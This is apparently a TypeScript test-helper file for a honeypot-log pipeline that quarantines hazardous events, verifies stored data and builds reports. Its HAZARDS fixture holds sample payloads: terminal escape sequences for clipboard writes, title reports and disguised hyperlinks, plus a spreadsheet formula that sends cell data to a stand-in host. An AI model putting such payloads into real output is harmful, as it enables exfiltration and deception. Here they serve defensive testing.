/** Withheld events in tests: logs that have some, decisions on them, and all that a store says of what it has stored. */
import { formatInstant } from '../../src/core/instant.ts'
import { approve, type Decision, reject } from '../../src/pipeline/quarantine.ts'
import { verifyStore } from '../../src/pipeline/verify.ts'
import { makeReport, periodOf } from '../../src/report/model.ts'
import type { Store } from '../../src/store/port.ts'
import { ReportQueries } from '../../src/store/repo/report.ts'
import { fingerprint, storeStats } from '../../src/store/repo/stats.ts'
import {
  type Fields,
  type Lab,
  NOW_US,
  registry,
  type StandardRules,
  VERIFY_ALL,
  VERSIONS,
} from './loading.ts'

/** Withholds none. */
export const NONE = 101
/** Withholds every event that a rule hits. */
export const ALL = 0

/** Fields whose text must not reach a reader unseen: each makes an event that is withheld by default. */
export const HAZARDS: readonly Fields[] = [
  { eventid: 'cowrie.command.input', input: 'echo \u001b]52;c;aWQ=\u0007' },
  {
    eventid: 'cowrie.login.failed',
    username: '=WEBSERVICE("http://drop.example/?"&A1)',
    password: 'x',
  },
  { eventid: 'cowrie.client.version', version: 'SSH-2.0-x\u001b[21t' },
  {
    eventid: 'cowrie.session.file_download',
    url: 'http://drop.example/\u001b]8;;http://drop.example\u001b\\report',
    shasum: 'a hash',
  },
]

/** Everything a store tells of its stored events; the same for the same set of events. */
export async function answersOf(store: Store): Promise<Readonly<Record<string, unknown>>> {
  const rows = (statement: string): Promise<unknown[]> => allRows(store, statement)
  const {
    batches: _,
    sources: __,
    deadLetters: ___,
    deadRegions: ____,
    ...stats
  } = await storeStats(store.query)
  const period = periodOf('monthly', '2026-05', 0)
  const queries = await ReportQueries.open(store.query, {
    fromDay: period.fromDay,
    untilDay: period.untilDay,
    sensor: undefined,
  })
  const { completeness: _____, ...report } = await makeReport(
    queries,
    period,
    undefined,
    50,
    NOW_US,
  )
  return {
    fingerprint: await fingerprint(store.fingerprintRows()),
    stats,
    report,
    sessions: await rows(SESSIONS),
    sessionValues: await rows(
      `select name, session, value, kind, day, count from session_values join sessions using (session_key)
         join sensors on sensors.id = sensor_id join "values" on "values".id = value_id order by 1, 2, 3, 4, 5`,
    ),
    dailyValues: await rows(
      `select day, name, value, daily_values.kind as kind, count, sessions from daily_values
         join sensors on sensors.id = sensor_id join "values" on "values".id = value_id order by 1, 2, 3, 4`,
    ),
    dailyEvents: await rows(
      `select day, sensors.name as sensor, event_kinds.name as kind, count from daily_events
         join sensors on sensors.id = sensor_id join event_kinds on event_kinds.id = kind_id order by 1, 2, 3`,
    ),
    dailyVerdicts: await rows(
      `select day, name, threat, hazard, hits, layers, count from daily_verdicts
         join sensors on sensors.id = sensor_id join verdicts on verdicts.id = verdict_id order by 1, 2, 5, 6, 3, 4`,
    ),
    drift: await rows(
      'select what, eventid, field, count, first_us, last_us from schema_drift order by what, eventid, field',
    ),
    verdicts: await rows(
      `select event_time_us, raw_events.digest as digest, threat, hazard, hits, verdicts.layers as layers
         from raw_events join verdicts on verdicts.id = verdict_id order by 1, 2`,
    ),
  }
}

const VALUE = (column: string): string =>
  `(select value from "values" where "values".id = sessions.${column}) as ${column}`

/** All columns, with texts in place of numbers that depend on the order of loading. */
const SESSIONS = `select sensors.name as sensor, session, first_event_us, last_event_us, ${VALUE('src_ip')}, src_ip_us, protocol,
    protocol_us, ${VALUE('client_version')}, client_version_us, ${VALUE('hassh')}, hassh_us, duration_ms, duration_us, event_count,
    connect_count, closed_count, command_count, failed_command_count, login_failed_count, login_success_count, download_count,
    upload_count, threat_score, hazard_score
  from sessions join sensors on sensors.id = sensor_id order by 1, 2`

async function allRows(store: Store, statement: string): Promise<unknown[]> {
  const { sql } = await import('kysely')
  const { rows } = await sql.raw<Record<string, unknown>>(statement).execute(store.query)
  return rows.map((row) =>
    Object.fromEntries(
      Object.entries(row).map(([name, value]) => [
        name,
        value instanceof Uint8Array ? Buffer.from(value).toString('hex') : value,
      ]),
    ),
  )
}

/** All that verification finds; empty for a store that is as it should be. */
export async function problemsOf(store: Store, rules?: StandardRules): Promise<readonly string[]> {
  const found = await verifyStore(store.reads(), {
    ...VERIFY_ALL,
    ...(rules === undefined ? {} : { rules }),
  })
  return [found.conservation, found.summaries, found.view, found.seals, found.journal].flatMap(
    (one) => one.problems,
  )
}

/** A withheld event: what tells it from all others, and where it waits. */
export type Held = {
  readonly batch: number
  readonly record: number
  readonly state: string
  /** Time and digest. */
  readonly key: string
}

export async function heldEvents(lab: Lab): Promise<Held[]> {
  const rows = await lab.all<{
    batch: number
    record: number
    state: string
    at: number
    digest: Uint8Array
  }>(
    `select batch_id as batch, record_no as record, state, event_time_us as at, digest from held_events order by batch_id, record_no`,
  )
  return rows.map(({ at, digest, ...row }) => ({
    ...row,
    key: `${formatInstant(at)} ${Buffer.from(digest).toString('hex')}`,
  }))
}

export async function heldKeys(lab: Lab): Promise<string[]> {
  return (await heldEvents(lab)).map(({ key }) => key).sort()
}

export function decision(batchId: number, records?: readonly number[]): Decision {
  return { batchId, records, actor: 'alice', reason: 'a test', falsePositives: [] }
}

export async function approveIn(
  store: Store,
  batchId: number,
  records?: readonly number[],
): Promise<number> {
  const writer = store.writer(VERSIONS)
  try {
    return await approve(store.reads(), writer, registry, decision(batchId, records))
  } finally {
    await writer.close()
  }
}

export function rejectIn(
  store: Store,
  batchId: number,
  records?: readonly number[],
): Promise<number> {
  return reject(store.reads(), store.review, decision(batchId, records))
}

/** Approves everything that waits. */
export async function approveAll(lab: Lab): Promise<void> {
  const waiting = (await heldEvents(lab)).filter(({ state }) => state === 'held')
  for (const batch of new Set(waiting.map((one) => one.batch))) await approveIn(lab.store, batch)
}
